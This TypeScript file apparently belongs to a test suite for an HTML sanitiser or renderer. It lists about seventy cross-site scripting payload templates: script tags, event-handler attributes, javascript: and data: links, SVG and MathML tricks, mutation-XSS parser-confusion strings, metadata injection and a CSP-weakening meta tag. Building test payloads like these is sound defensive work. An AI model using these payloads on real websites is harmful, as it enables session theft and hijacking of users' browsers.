import type { Vector } from './vector.ts'

const inSvg = (inner: string) => `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">${inner}</svg>`
const entities = (text: string) => [...text].map((char) => `&#${char.charCodeAt(0)};`).join('')

/** Attempts to run something. */
export const running: readonly Vector[] = [
  { name: 'script', html: ({ js }) => `<script>${js}</script>` },
  { name: 'script-in-head', inHead: true, html: ({ js }) => `<script>${js}</script>` },
  { name: 'script-src', html: ({ leak }) => `<script src="${leak}"></script>` },
  { name: 'script-module', html: ({ leak }) => `<script type="module" src="${leak}"></script>` },
  { name: 'script-split', html: ({ js }) => `<scr<script>ipt>${js}</scr</script>ipt>` },
  { name: 'script-slash', html: ({ leak }) => `<script/x src="${leak}"></script >` },
  { name: 'script-in-noscript', html: ({ js }) => `<noscript><script>${js}</script></noscript>` },
  { name: 'script-in-template', html: ({ js }) => `<template><p>t</p><script>${js}</script></template>` },
  { name: 'script-in-svg', html: ({ js }) => inSvg(`<script>${js}</script>`) },
  { name: 'script-in-svg-href', html: ({ leak }) => inSvg(`<script href="${leak}"></script>`) },
  { name: 'script-in-math', html: ({ js }) => `<math><mtext><script>${js}</script></mtext></math>` },
  { name: 'error', html: ({ js }) => `<img src="/hostile/none" alt="" onerror="${js}">` },
  { name: 'error-unquoted', html: ({ js }) => `<img src=/hostile/none onerror=${js}>` },
  { name: 'error-slashes', html: ({ js }) => `<img/src="/hostile/none"/onerror="${js}"/>` },
  { name: 'error-capitals', html: ({ js }) => `<IMG SRC="/hostile/none" oNeRrOr="${js}">` },
  { name: 'error-escaped', html: ({ js }) => `<img src="/hostile/none" onerror="${entities(js)}">` },
  { name: 'error-lazy', html: ({ js }) => `<img data-src="/hostile/none" data-onerror="${js}" onload="${js}">` },
  { name: 'error-alt', html: ({ js }) => `<img src="/hostile/none" alt="&quot;><img src=x onerror=${js}>">` },
  { name: 'load-body', html: ({ js }) => `<body onload="${js}" onpageshow="${js}">` },
  { name: 'load-svg', html: ({ js }) => `<svg onload="${js}"><path d="M0 0h9v9z"/></svg>` },
  { name: 'load-style', html: ({ js }) => `<style onload="${js}">p{}</style>` },
  { name: 'load-iframe', html: ({ js }) => `<iframe onload="${js}"></iframe>` },
  { name: 'toggle', html: ({ js }) => `<details open ontoggle="${js}"><summary>s</summary>t</details>` },
  { name: 'focus', html: ({ js }) => `<p tabindex="0" autofocus onfocus="${js}">Focus falls here.</p>` },
  {
    name: 'input-focus',
    html: ({ js }) => `<input autofocus onfocus="${js}"><select autofocus onfocus="${js}"></select>`,
  },
  {
    name: 'animation',
    html: ({ js }) => `<style>@keyframes q{}</style><p style="animation:q 1s" onanimationstart="${js}">Moves.</p>`,
  },
  {
    name: 'transition',
    html: ({ js }) => `<p style="transition:outline 1s" ontransitionend="${js}" id="t">Changes.</p>`,
  },
  {
    name: 'scroll',
    html: ({ js }) =>
      `<div style="overflow:scroll;height:9px" onscroll="${js}" onscrollend="${js}"><p id="far">Far.</p></div>`,
  },
  {
    name: 'pointer',
    html: ({ js }) =>
      `<p onmouseover="${js}" onpointerenter="${js}" onclick="${js}" onselectstart="${js}">Touch me, says the page.</p>`,
  },
  { name: 'marquee', html: ({ js }) => `<marquee onstart="${js}" loop="1">Old ways.</marquee>` },
  {
    name: 'video-error',
    html: ({ js }) => `<video onerror="${js}"><source src="/hostile/none" onerror="${js}"></video>`,
  },
  { name: 'audio-error', html: ({ js }) => `<audio src="/hostile/none" onerror="${js}" controls></audio>` },
  {
    name: 'popover',
    html: ({ js }) => `<button popovertarget="pop">b</button><p popover id="pop" onbeforetoggle="${js}">Pop.</p>`,
  },
  {
    name: 'content-visibility',
    html: ({ js }) =>
      `<p oncontentvisibilityautostatechange="${js}" style="display:block;content-visibility:auto">Seen.</p>`,
  },
  { name: 'link-javascript', html: ({ js }) => `<a href="javascript:${js}">Read on</a>` },
  { name: 'link-javascript-broken', html: ({ js }) => `<a href=" java&#10;script&colon;${js}">Read on</a>` },
  { name: 'link-javascript-control', html: ({ js }) => `<a href="&#1;JaVaScRiPt:${js}" target="_blank">Read on</a>` },
  { name: 'link-vbscript', html: () => '<a href="vbscript:msgbox(1)">Read on</a>' },
  { name: 'link-data', html: ({ js }) => `<a href="data:text/html,<script>${js}</script>">Read on</a>` },
  { name: 'link-svg', html: ({ js }) => inSvg(`<a xlink:href="javascript:${js}"><text y="9">On</text></a>`) },
  {
    name: 'link-svg-animated',
    html: ({ js }) => inSvg(`<a><animate attributeName="href" values="javascript:${js}"/><text y="9">On</text></a>`),
  },
  {
    name: 'link-svg-set',
    html: ({ js }) =>
      inSvg(`<set attributeName="onmouseover" to="${js}"/><image href="/hostile/none" onerror="${js}"/>`),
  },
  {
    name: 'link-math',
    html: ({ js }) => `<math href="javascript:${js}"><mi xlink:href="javascript:${js}">x</mi></math>`,
  },
  {
    name: 'image-javascript',
    html: ({ js }) => `<img src="javascript:${js}" alt=""><img srcset="javascript:${js} 2x" alt="">`,
  },
  { name: 'frame-javascript', html: ({ js }) => `<iframe src="javascript:${js}"></iframe>` },
  { name: 'frame-srcdoc', html: ({ js }) => `<iframe srcdoc="<script>${js}</script>"></iframe>` },
  { name: 'frame-data', html: ({ js }) => `<iframe src="data:text/html,<script>${js}</script>"></iframe>` },
  {
    name: 'frame-data-escaped',
    html: ({ js }) => `<iframe src="data:text/html;base64,${btoa(`<script>${js}</script>`)}"></iframe>`,
  },
  {
    name: 'object-data',
    html: ({ js }) => `<object data="data:text/html,<script>${js}</script>" type="text/html"></object>`,
  },
  {
    name: 'embed-data',
    html: ({ js }) => `<embed src="data:image/svg+xml,${encodeURIComponent(inSvg(`<script>${js}</script>`))}">`,
  },
  {
    name: 'form-javascript',
    html: ({ js }) =>
      `<form action="javascript:${js}"><button autofocus formaction="javascript:${js}">Send</button></form>`,
  },
  {
    name: 'foreign-object',
    html: ({ js }) =>
      inSvg(
        `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${js}"><img src="/hostile/none" onerror="${js}"/></body></foreignObject>`,
      ),
  },
  {
    name: 'namespace-html',
    html: ({ js }) =>
      `<x xmlns="http://www.w3.org/1999/xhtml"><x:script xmlns:x="http://www.w3.org/1999/xhtml">${js}</x:script></x>`,
  },
  {
    name: 'processing',
    html: ({ js }) => `<?xml-stylesheet href="javascript:${js}"?><!--[if gte IE 4]><script>${js}</script><![endif]-->`,
  },
  {
    name: 'shadow-root',
    html: ({ js }) => `<div><template shadowrootmode="open"><img src="/hostile/none" onerror="${js}"></template></div>`,
  },
  {
    name: 'custom-element',
    html: ({ js }) => `<x-note onclick="${js}" is="x-note" slot="s" part="p">Custom.</x-note>`,
  },
  {
    name: 'json-ld',
    inHead: true,
    html: ({ js }) =>
      `<script type="application/ld+json">{"@type":"NewsArticle","headline":"<img src=x onerror=${js}>","author":{"name":"<script>${js}<\\/script>"}}</script>`,
  },
  {
    name: 'meta-title',
    inHead: true,
    html: ({ js }) =>
      `<meta property="og:description" content="&lt;img src=x onerror=${js}&gt;"><meta name="author" content="&lt;svg onload=${js}&gt;">`,
  },
  {
    name: 'policy',
    inHead: true,
    html: () => `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">`,
  },

  // What one parser reads as text, the next as tags.
  {
    name: 'mutation-noscript',
    html: ({ js }) => `<noscript><p title="</noscript><img src=x onerror=${js}>"></noscript>`,
  },
  {
    name: 'mutation-style',
    html: ({ js }) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${js}&gt;">`,
  },
  {
    name: 'mutation-form',
    html: ({ js }) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${js}>`,
  },
  { name: 'mutation-svg-title', html: ({ js }) => `<svg></p><style><a id="</style><img src=x onerror=${js}>">` },
  {
    name: 'mutation-textarea',
    html: ({ js }) => `<textarea><p title="</textarea><img src=x onerror=${js}>"></textarea>`,
  },
  { name: 'mutation-xmp', html: ({ js }) => `<xmp><p title="</xmp><img src=x onerror=${js}>"></xmp>` },
  {
    name: 'mutation-template',
    html: ({ js }) => `<svg><template><style><img title="</style><img src=x onerror=${js}>"></template></svg>`,
  },
  {
    name: 'mutation-annotation',
    html: ({ js }) =>
      `<math><annotation-xml encoding="text/html"><style><img src="</style><img src=x onerror=${js}>"></style></annotation-xml></math>`,
  },
  {
    name: 'mutation-comment',
    html: ({ js }) => `<!--><img src=x onerror=${js}>--><!--- --!><img src=x onerror=${js}>`,
  },
  { name: 'mutation-cdata', html: ({ js }) => `<svg><![CDATA[><img src=x onerror=${js}>]]></svg>` },
  {
    name: 'mutation-attribute',
    html: ({ js }) =>
      `<img alt="\`><img src=x onerror=${js}>" title='"><img src=x onerror=${js}>' src="/hostile/none">`,
  },
  {
    name: 'mutation-nesting',
    html: ({ js }) =>
      `${'<div>'.repeat(600)}<table><caption><svg><title><table><caption></caption></table></title><style><a id="</style><img src=x onerror=${js}>"></a></style></svg></caption></table>${'</div>'.repeat(600)}`,
  },
  { name: 'plaintext', alone: 'all that follows is text', html: ({ js }) => `<plaintext><script>${js}</script>` },
  { name: 'open-comment', alone: 'all that follows is a comment', html: ({ js }) => `<!-- <img src=x onerror=${js}>` },
  {
    name: 'open-attribute',
    alone: 'all that follows is an attribute',
    html: ({ js }) => `<img src=x title="</p><script>${js}</script>`,
  },
]
